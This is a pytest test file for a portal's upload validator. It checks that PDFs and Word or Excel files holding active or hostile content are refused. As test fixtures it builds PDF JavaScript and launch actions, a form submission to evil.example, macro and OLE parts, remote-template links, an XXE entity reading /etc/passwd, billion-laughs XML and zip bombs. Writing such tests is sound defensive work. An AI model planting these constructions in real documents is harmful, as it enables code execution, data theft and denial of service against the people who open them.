"""An upload is what a real parser says it is (issue 19, point 9): a PDF opens with pages and holds no JavaScript,
actions or embedded files; a DOCX or XLSX is the Office file its ``[Content_Types].xml`` declares, without macros in
any case, and no zip bomb; every refusal names what is wrong, keeps the form and writes nothing."""

from __future__ import annotations

import html
import io
import struct
import zipfile
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, NumberObject, TextStringObject
from sqlalchemy import func, select

from parkportal.core.errors import Invalid
from parkportal.extensions import db
from parkportal.library import formats, pdfscan, storage
from parkportal.models import AuditLog, Compilation

from .conftest import english
from .library_support import (
    EXCEL_MAIN,
    WORD_MAIN,
    content_types,
    docx_bytes,
    office_bytes,
    pdf_bytes,
    word_document,
    xlsx_bytes,
)

pytestmark = pytest.mark.pdf_child_process  # these tests prove the child process the worker scans PDFs in

WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
EXCEL_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def upload_form(data: bytes, name: str) -> dict:
    """The contract's multipart fields for ``POST /library/new`` with the given file."""
    return {
        "title": "企业法律实务汇编",
        "edition": "2025年版",
        "summary": "新《公司法》、劳动用工、合同管理的实务要点。",
        "topics": ["company_law", "labor"],
        "published": "y",
        "file": (io.BytesIO(data), name),
    }


def stored_files(app) -> list[Path]:
    """Every file in the library folder (covers included)."""
    root = Path(app.config["LIBRARY_STORAGE_DIR"])
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


@pytest.fixture(autouse=True)
def empty_library(app):
    """Each test starts with an empty library folder."""
    for path in stored_files(app):
        path.unlink()


def refused(app, client, data: bytes, name: str) -> str:
    """Post the file; assert the form came back (422) with the input kept and nothing written; return the page."""
    response = client.post("/library/new", data=upload_form(data, name), content_type="multipart/form-data")
    assert response.status_code == 422, response.status
    body = html.unescape(response.get_data(as_text=True))
    assert 'id="file-error"' in body and "新《公司法》、劳动用工、合同管理的实务要点。" in body
    assert stored_files(app) == []
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Compilation)) == 0
        assert db.session.scalar(select(func.count()).select_from(AuditLog)) == 0
    return body


def accepted(app, client, data: bytes, name: str) -> Compilation:
    """Post the file; assert it was published (303) and return its row."""
    response = client.post("/library/new", data=upload_form(data, name), content_type="multipart/form-data")
    assert response.status_code == 303, response.get_data(as_text=True)
    with app.app_context():
        return db.session.scalars(select(Compilation)).one()


# ------------------------------------------------------------------------------------------------ PDFs


def pdf_with(build) -> bytes:
    """A one-page PDF written by pypdf after ``build(writer)`` added something to it."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    """A PDF action dictionary ``<< /S /kind … >>``."""
    found = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        found[NameObject(f"/{key}")] = TextStringObject(value) if isinstance(value, str) else value
    return found


def link(writer: PdfWriter, target: DictionaryObject) -> None:
    """A link annotation on the first page that performs ``target``."""
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(72), FloatObject(72), FloatObject(200), FloatObject(100)]),
            NameObject("/A"): target,
        }
    )
    writer.add_annotation(0, annotation)


def open_action(writer: PdfWriter, target) -> None:
    """Make ``target`` the document's ``/OpenAction``."""
    writer._root_object[NameObject("/OpenAction")] = target


def named_script(writer: PdfWriter) -> None:
    """A document-level script in the catalog's ``/Names /JavaScript`` tree (run when the file opens)."""
    scripts = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("hello"), action("/JavaScript", JS="app.alert(1)")])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})


def page_actions(writer: PdfWriter) -> None:
    """Give the first page an additional action (``/AA``) run when the page opens."""
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/GoTo")})


def escaped_name_pdf() -> bytes:
    """A PDF whose open action's names are spelt ``/S /J#61vaScript /J#53`` (``#61`` is ``a``, ``#53`` is ``S``): a
    byte search for ``/JavaScript`` or ``/JS`` misses them, a parser doesn't."""
    return pdf_bytes("escaped", catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ")


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"%PDF-1.4\nnot really a pdf body\n%%EOF\n", "This PDF can't be opened"),
        (pdf_bytes("cut off")[:300], "This PDF can't be opened"),
        (pdf_bytes("cut off")[:300] + b"\n%%EOF\n", "This PDF can't be opened"),
        (pdf_bytes("no pages").replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0"), "This PDF has no pages."),
    ],
    ids=["no-pdf-body", "truncated", "truncated-with-eof", "no-pages"],
)
def test_what_only_looks_like_a_pdf_is_refused(app, staff_client, data, message):
    """A PDF signature is not a PDF: a file that doesn't open, is cut off or has no page is refused by name."""
    assert message in refused(app, english(staff_client), data, "汇编.pdf")


def test_the_issue_s_47_byte_pdf_is_refused(app, staff_client):
    """The 47-byte ``%PDF-<html><script>…`` of the issue is no compilation."""
    data = b"%PDF-<html><script>alert()</script></html>%%EOF"
    assert len(data) == 47
    assert "This PDF can't be opened" in refused(app, english(staff_client), data, "汇编.pdf")


def test_an_encrypted_pdf_is_refused(app, staff_client):
    """A PDF with a password (or only an owner password) can't be checked, so it is refused, saying so."""

    def protect(writer: PdfWriter) -> None:
        """Encrypt with an owner password only (it opens, but its objects are encrypted)."""
        writer.encrypt("", "owner", algorithm="RC4-128")

    for data in (pdf_with(protect), pdf_with(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))):
        assert "This PDF is encrypted or protected with a password" in refused(
            app, english(staff_client), data, "汇编.pdf"
        )


@pytest.mark.parametrize(
    ("build", "words"),
    [
        (named_script, "JavaScript"),
        (lambda writer: open_action(writer, action("/JavaScript", JS="app.alert(1)")), "JavaScript"),
        (lambda writer: link(writer, action("/JavaScript", JS="this.exportDataObject()")), "JavaScript"),
        (lambda writer: link(writer, action("/Launch", F="cmd.exe")), "actions that start programs"),
        (lambda writer: link(writer, action("/GoToR", F="other.pdf")), "actions that start programs"),
        (lambda writer: link(writer, action("/SubmitForm", F="https://evil.example/")), "actions that start programs"),
        (lambda writer: open_action(writer, action("/URI", URI="https://evil.example/")), "actions that run by"),
        (page_actions, "actions that run by themselves"),
        (lambda writer: writer.add_attachment("invoice.exe", b"MZ\x90\x00"), "embedded files"),
    ],
    ids=["named-js", "open-action-js", "link-js", "launch", "gotor", "submit-form", "open-action-uri", "aa", "file"],
)
def test_pdf_active_content_is_refused_naming_it(app, staff_client, build, words):
    """JavaScript, launch and other outward actions, automatic actions and embedded files are refused, named."""
    body = refused(app, english(staff_client), pdf_with(build), "汇编.pdf")
    assert "This PDF contains" in body and words in body


def test_active_content_is_found_by_parsing_not_by_bytes(app, staff_client):
    """A script whose names are escaped (``/J#61vaScript``) is found all the same: the parser reads the names."""
    data = escaped_name_pdf()
    assert b"/JavaScript" not in data and b"/JS" not in data
    assert "This PDF contains JavaScript" in refused(app, english(staff_client), data, "汇编.pdf")


def test_a_pdf_too_slow_to_read_is_refused_and_the_worker_answers(app, staff_client, monkeypatch):
    """A PDF that would keep the parser busy (dense arrays: seconds per 100 KB) is read in a child process that is
    stopped at the timeout; the request answers at once with a refusal naming the bound."""
    import time

    monkeypatch.setattr(formats, "PDF_SECONDS", 3)
    row = b"[" + b"1 " * 50_000 + b"] "  # 100 KB that pypdf needs about a second for
    slow = pdf_bytes("slow", catalog=b"/Junk [" + row * 20 + b"] ")
    started = time.monotonic()
    body = refused(app, english(staff_client), slow, "汇编.pdf")
    assert "This PDF is too complex to check" in body and "more than 3 seconds" in body
    assert time.monotonic() - started < 10


def test_the_scanner_caps_the_number_of_objects(monkeypatch):
    """Past ``MAX_OBJECTS`` the scanner calls a PDF complex without reading its objects."""
    monkeypatch.setattr(pdfscan, "MAX_OBJECTS", 3)
    assert pdfscan.scan(pdf_bytes("objects")) == {"problem": "complex", "found": []}
    monkeypatch.undo()
    assert pdfscan.scan(pdf_bytes("objects")) == {"problem": None, "found": []}


def test_a_scanner_that_fails_refuses_the_file(app, staff_client, monkeypatch, tmp_path):
    """A scanner that dies (a memory cap hit, a crash) refuses the PDF instead of letting it through."""
    script = tmp_path / "dies.py"
    script.write_text("raise SystemExit(3)\n")
    monkeypatch.setattr(formats, "PDF_SCANNER", script)
    assert "This PDF is too complex to check" in refused(app, english(staff_client), pdf_bytes("dies"), "汇编.pdf")


def test_the_refusal_is_in_the_user_s_language(app, staff_client):
    """In Chinese (the default) the message names the JavaScript in Chinese; the title typed is kept."""
    body = refused(app, staff_client, pdf_with(named_script), "汇编.pdf")
    assert "该PDF文件含有JavaScript脚本" in body and 'value="企业法律实务汇编"' in body


def test_harmless_links_and_a_page_to_open_at_are_fine(app, staff_client):
    """A web link and an ``/OpenAction`` that only shows the first page are no active content."""

    def build(writer: PdfWriter) -> None:
        """A link to a web page and an open action going to page one."""
        link(writer, action("/URI", URI="https://www.gov.cn/"))
        page = writer.pages[0].indirect_reference
        open_action(writer, ArrayObject([page, NameObject("/Fit")]))
        writer.pages[0][NameObject("/Rotate")] = NumberObject(0)

    row = accepted(app, staff_client, pdf_with(build), "汇编.pdf")
    assert row.kind == "pdf"


def test_a_page_of_absurd_shape_is_drawn_small(app, staff_client, monkeypatch):
    """A page 1 pt wide and 10⁸ pt tall is accepted, and its cover is asked for at most ``COVER_MAX_HEIGHT`` pixels
    tall (before, 400 million: a 6 GB bitmap)."""
    import pypdfium2

    asked: list[float] = []
    render = pypdfium2.PdfPage.render

    def recorded(page, scale=1, **kwargs):
        """Note the pixel height asked for, then draw."""
        asked.append(page.get_height() * scale)
        return render(page, scale=scale, **kwargs)

    monkeypatch.setattr(pypdfium2.PdfPage, "render", recorded)
    data = pdf_bytes("tall").replace(b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 1 99999999]")
    assert accepted(app, staff_client, data, "汇编.pdf").kind == "pdf"
    assert asked and max(asked) <= storage.COVER_MAX_HEIGHT


def test_a_weasyprint_compilation_like_the_demo_s_is_accepted_with_a_cover(app, staff_client):
    """The demo's booklets (WeasyPrint, objects packed in object streams) pass and get a cover."""
    from parkportal.library.demo import _pdf

    data = _pdf("企业法律实务汇编", "2025年版", "实务要点。", ["合同", "劳动"], "富都江南新经济产业园", "律师事务所")
    assert b"/ObjStm" in data  # what a byte search could not see into
    row = accepted(app, staff_client, data, "企业法律实务汇编（2025年版）.pdf")
    assert row.kind == "pdf" and row.cover_name is not None


# ------------------------------------------------------------------------------------------------ Office files


def rewritten(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The zip ``data`` with some members replaced (or, for ``None``, removed) and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info.filename, source.read(info))
        for name, body in changes.items():
            if body is not None:
                target.writestr(name, body)
    return out.getvalue()


def excel_types(data: bytes) -> str:
    """The ``[Content_Types].xml`` of an XLSX, as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("[Content_Types].xml").decode()


def test_the_issue_s_zip_with_html_is_no_docx(app, staff_client):
    """A zip holding ``[Content_Types].xml`` and HTML named word/document.xml is not a Word document."""
    page = "<html><body><script>alert(1)</script></body></html>"
    for data in (
        office_bytes({"word/document.xml": page}, types='<?xml version="1.0"?><Types/>'),  # the issue's file
        office_bytes({"word/document.xml": page}, {"word/document.xml": WORD_MAIN}),  # declared, but HTML
        office_bytes({"index.html": page}),
    ):
        assert "not a Word (.docx) or Excel (.xlsx) document" in refused(app, english(staff_client), data, "合同.docx")


def test_the_issue_s_capital_v_vba_project_is_refused(app, staff_client):
    """``xl/VbaProject.bin`` (capital V) in an otherwise real XLSX is macros all the same."""
    data = rewritten(xlsx_bytes(), {"xl/VbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    assert "This file contains macros" in refused(app, english(staff_client), data, "台账.xlsx")


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (docx_bytes(**{"word/document.xml": WORD_MACRO_MAIN}), "合同.docx"),
        (
            rewritten(
                xlsx_bytes(),
                {"[Content_Types].xml": excel_types(xlsx_bytes()).replace(EXCEL_MAIN, EXCEL_MACRO_MAIN).encode()},
            ),
            "台账.xlsx",
        ),
        (docx_bytes(extra={"word/VBAPROJECT.BIN": b"macro"}), "合同.docx"),
        (docx_bytes(extra={"word/vbaData.xml": "<wne:vbaSuppData/>"}), "合同.docx"),
        (docx_bytes(extra={"word/activeX/activeX1.xml": "<ax:ocx/>"}), "合同.docx"),
        (
            docx_bytes(extra={"word/media/x.bin": b"\0"}, **{"word/media/x.bin": "application/vnd.ms-office.activeX"}),
            "合同.docx",
        ),
        (rewritten(xlsx_bytes(), {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), "台账.xlsx"),
    ],
    ids=["docm-type", "xlsm-type", "upper-case-vba", "vba-data", "activex-part", "activex-type", "excel4-macros"],
)
def test_macros_are_refused_whatever_their_name_or_case(app, staff_client, data, name):
    """Macro-enabled content types, VBA parts in any case, ActiveX and Excel 4.0 macro sheets are refused."""
    assert "This file contains macros" in refused(app, english(staff_client), data, name)


def big_member_docx(size: int) -> bytes:
    """A real DOCX plus ``word/media/zeros.bin``: ``size`` zero bytes, which pack to almost nothing."""
    out = io.BytesIO(docx_bytes())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/zeros.bin", "w") as member,
    ):
        block = b"\0" * (1024 * 1024)
        for _ in range(size // len(block)):
            member.write(block)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(app, staff_client, monkeypatch):
    """A member packed a thousand to one is refused from its declared sizes alone, without unpacking it."""
    data = big_member_docx(64 * 1024 * 1024)
    assert len(data) < 200 * 1024
    unpacked: list[str] = []
    real = formats._unpack
    monkeypatch.setattr(
        formats, "_unpack", lambda archive, info, **kw: unpacked.append(info.filename) or real(archive, info, **kw)
    )
    assert 'as a "zip bomb" does' in refused(app, english(staff_client), data, "合同.docx")
    assert "word/media/zeros.bin" not in unpacked


def test_declared_sizes_are_bounded_in_all_and_in_number(app, staff_client, monkeypatch):
    """Past the total unpacked size, or the number of members, an Office file is refused naming the bound."""
    monkeypatch.setattr(formats, "MAX_UNPACKED_BYTES", 4 * 1024)
    body = refused(app, english(staff_client), docx_bytes("长" * 2000), "合同.docx")
    assert 'as a "zip bomb" does' in body
    monkeypatch.setattr(formats, "MAX_UNPACKED_BYTES", 256 * 1024 * 1024)
    monkeypatch.setattr(formats, "MAX_ZIP_MEMBERS", 3)
    assert "more than 3 parts" in refused(
        app, english(staff_client), docx_bytes(extra={"a.xml": "<a/>", "b.xml": "<b/>"}), "合同.docx"
    )


def lie_about_size(data: bytes, member: str, size: int) -> bytes:
    """``data`` whose local and central headers declare ``member`` to be ``size`` bytes unpacked."""
    out = bytearray(data)
    name = member.encode()
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := out.find(signature, start)) != -1:
            name_length = struct.unpack_from("<H", out, start + (26 if signature == b"PK\x03\x04" else 28))[0]
            header = 30 if signature == b"PK\x03\x04" else 46
            if bytes(out[start + header : start + header + name_length]) == name:
                struct.pack_into("<I", out, start + offset, size)
            start += 4
    return bytes(out)


def test_a_member_larger_than_declared_is_never_unpacked_past_its_size(app, staff_client):
    """A member whose headers understate its size is read only as far as declared, and then refused (its CRC)."""
    data = lie_about_size(docx_bytes("内容" * 50_000), "word/document.xml", 100)
    assert "This Word or Excel file is damaged" in refused(app, english(staff_client), data, "合同.docx")


def test_xml_with_entities_is_refused(app, staff_client):
    """A DTD (a billion laughs, an external entity) in any XML part is refused, never expanded or fetched."""
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&b;</w:document>'
    )
    external = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    for data in (
        office_bytes({"word/document.xml": laughs}, {"word/document.xml": WORD_MAIN}),
        docx_bytes(extra={"docProps/app.xml": external}),
        office_bytes({"word/document.xml": word_document("x")}, types=external),
    ):
        assert "This Word or Excel file is damaged" in refused(app, english(staff_client), data, "合同.docx")


def test_malformed_parts_and_duplicate_names_are_damaged(app, staff_client):
    """A part that isn't XML, or a name twice (part names ignore case), is refused as damaged."""
    twice = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(twice, "a") as archive:
        archive.writestr("WORD/document.xml", word_document("the other one"))
    for data in (docx_bytes(extra={"word/styles.xml": "<w:styles"}), twice.getvalue()):
        assert "This Word or Excel file is damaged" in refused(app, english(staff_client), data, "合同.docx")


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (docx_bytes("合同审查要点"), "合同审查要点.docx", "docx"),
        (xlsx_bytes("用工台账"), "用工台账.xlsx", "xlsx"),
    ],
)
def test_real_word_and_excel_files_are_accepted(app, staff_client, data, name, kind):
    """A real DOCX and an XLSX written by openpyxl are published, as the kind their content declares."""
    assert accepted(app, staff_client, data, name).kind == kind


def test_a_docx_named_xlsx_is_told_its_kind(app, staff_client):
    """The kind comes from the declared main part: a DOCX named .xlsx is a Word document with the wrong name."""
    body = refused(app, english(staff_client), docx_bytes(), "台账.xlsx")
    assert "The file is a docx document, but its name doesn't end in .docx" in body


# ---------------------------------------------------------------------------------------------- embedded objects, links

OLE_FILE = formats.OLE_SIGNATURE + b"\0" * 504  # the header of an OLE compound file, as Word embeds objects
OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationships(*entries: tuple[str, str, str]) -> str:
    """A ``.rels`` part with one relationship per (type's last segment, target, target mode)."""
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}{kind}" Target="{html.escape(target)}" TargetMode="{mode}"/>'
        for n, (kind, target, mode) in enumerate(entries, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'
    )


def docx_with_default(extension: str, content_type: str, extra: dict[str, bytes]) -> bytes:
    """A DOCX whose ``[Content_Types].xml`` gives ``extension`` the default ``content_type``, plus ``extra``."""
    data = docx_bytes(extra=extra)
    types = content_types({"word/document.xml": WORD_MAIN}, {extension: content_type})
    return rewritten(data, {"[Content_Types].xml": types.encode()})


@pytest.mark.parametrize(
    ("data", "name", "part"),
    [
        (docx_bytes(extra={"word/embeddings/oleObject1.bin": OLE_FILE}), "合同.docx", "word/embeddings/oleObject1.bin"),
        (
            rewritten(xlsx_bytes(), {"xl/embeddings/oleObject1.bin": OLE_FILE}),
            "台账.xlsx",
            "xl/embeddings/oleObject1.bin",
        ),
        (docx_bytes(extra={"word/embeddings/OLEOBJECT2.BIN": b"\0"}), "合同.docx", "word/embeddings/OLEOBJECT2.BIN"),
        (
            docx_bytes(extra={"word/embeddings/Package.dat": OLE_FILE + b"\x01Ole10Native"}),
            "合同.docx",
            "word/embeddings/Package.dat",
        ),
        (
            docx_bytes(extra={"word/embeddings/thing.dat": b"\0"}, **{"word/embeddings/thing.dat": OLE_TYPE}),
            "合同.docx",
            "word/embeddings/thing.dat",
        ),
        (
            docx_with_default("bin", OLE_TYPE, {"word/embeddings/object.bin": b"\0"}),
            "合同.docx",
            "word/embeddings/object.bin",
        ),
    ],
    ids=[
        "word-ole-object",
        "excel-ole-object",
        "name-in-any-case",
        "packager-by-content",
        "override-type",
        "default-type",
    ],
)
def test_embedded_ole_objects_are_refused_naming_the_part(app, staff_client, data, name, part):
    """An OLE object (by its name, its declared content type, or its content: an OLE compound file, as a packaged
    file is) is refused, naming the part that holds it."""
    body = refused(app, english(staff_client), data, name)
    assert f"This file contains an embedded object ({part})." in body


@pytest.mark.parametrize(
    ("rels", "entry", "words"),
    [
        ("word/_rels/settings.xml.rels", ("attachedTemplate", "http://evil.example/t.dotm", "External"), "a template"),
        ("word/_rels/webSettings.xml.rels", ("frame", "\\\\evil.example\\share\\f.html", "External"), "a frame"),
        ("word/_rels/document.xml.rels", ("subDocument", "file:///C:/part.docx", "External"), "a sub-document"),
        ("word/_rels/document.xml.rels", ("oleObject", "mhtml:http://evil.example/x.html!x", "External"), "an object"),
        ("word/_rels/document.xml.rels", ("image", "http://evil.example/pixel.png", "external"), "a picture"),
        (
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            ("externalLinkPath", "file:///C:/secret.xlsx", "External"),
            "another workbook's data",
        ),
    ],
    ids=["template", "frame", "sub-document", "linked-object", "linked-picture-any-case", "external-workbook"],
)
def test_links_that_load_something_from_outside_are_refused_naming_them(app, staff_client, rels, entry, words):
    """A relationship with ``TargetMode="External"`` that Office follows by itself on opening is refused, naming what
    it loads and from where."""
    data = rewritten(xlsx_bytes(), {rels: relationships(entry).encode()}) if rels.startswith("xl/") else None
    data = data or docx_bytes(extra={rels: relationships(entry)})
    body = refused(app, english(staff_client), data, "台账.xlsx" if rels.startswith("xl/") else "合同.docx")
    assert f"This file contains a link that loads {words} from {entry[1]}." in body


def test_hyperlinks_and_an_embedded_chart_workbook_are_accepted(app, staff_client):
    """A hyperlink to outside (followed only when clicked) and an embedded workbook (a chart's data, a ZIP, not an
    OLE object) are fine."""
    links = relationships(("hyperlink", "https://www.gsxt.gov.cn/", "External"), ("styles", "styles.xml", "Internal"))
    data = docx_with_default(
        "xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        {
            "word/_rels/document.xml.rels": links.encode(),
            "word/styles.xml": b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes("图表数据"),
        },
    )
    assert accepted(app, staff_client, data, "合同.docx").kind == "docx"


def test_many_objects_and_links_are_named_up_to_three(app, staff_client):
    """Past three, the refusal names the first three and counts the rest."""
    parts = {f"word/embeddings/oleObject{n}.bin": OLE_FILE for n in range(1, 5)}
    parts["word/_rels/settings.xml.rels"] = relationships(("attachedTemplate", "http://evil.example/t", "External"))
    body = refused(app, english(staff_client), docx_bytes(extra=parts), "合同.docx")
    assert "(word/embeddings/oleObject3.bin), and 2 more." in body
    assert "oleObject4" not in body and "evil.example" not in body


def test_the_refusal_of_embedded_content_is_in_chinese(app, staff_client):
    """In Chinese (the default) the refusal names the embedded object and the outside link in Chinese."""
    parts = {
        "word/embeddings/oleObject1.bin": OLE_FILE,
        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "http://evil.example/t.dotm", "External")),
    }
    body = refused(app, staff_client, docx_bytes(extra=parts), "合同.docx")
    assert "嵌入对象（word/embeddings/oleObject1.bin）" in body
    assert "从 http://evil.example/t.dotm 加载模板的链接" in body


def test_identify_reads_only(tmp_path, ctx, app, monkeypatch):
    """``formats.identify`` writes nothing: a refusal and an acceptance leave the storage folder absent."""
    monkeypatch.setitem(app.config, "LIBRARY_STORAGE_DIR", str(tmp_path / "library"))
    assert formats.identify(io.BytesIO(docx_bytes())) == "docx"
    with pytest.raises(Invalid):
        formats.identify(io.BytesIO(b"%PDF-1.4 nothing %%EOF"))
    assert not (tmp_path / "library").exists()


def test_every_demo_compilation_passes_the_checks(ctx):
    """``seed-demo``'s (and so ``seed-district``'s) booklets, made by WeasyPrint, all pass as PDFs."""
    from parkportal.library import storage
    from parkportal.library.demo import COMPILATIONS, _pdf

    for title, edition, _year, _topics, summary, chapters, _published in COMPILATIONS:
        data = _pdf(title, edition, summary, chapters, "富都江南新经济产业园", "江苏摩方常闻律师事务所")
        assert storage.check(f"{title}.pdf", io.BytesIO(data)).kind == "pdf"
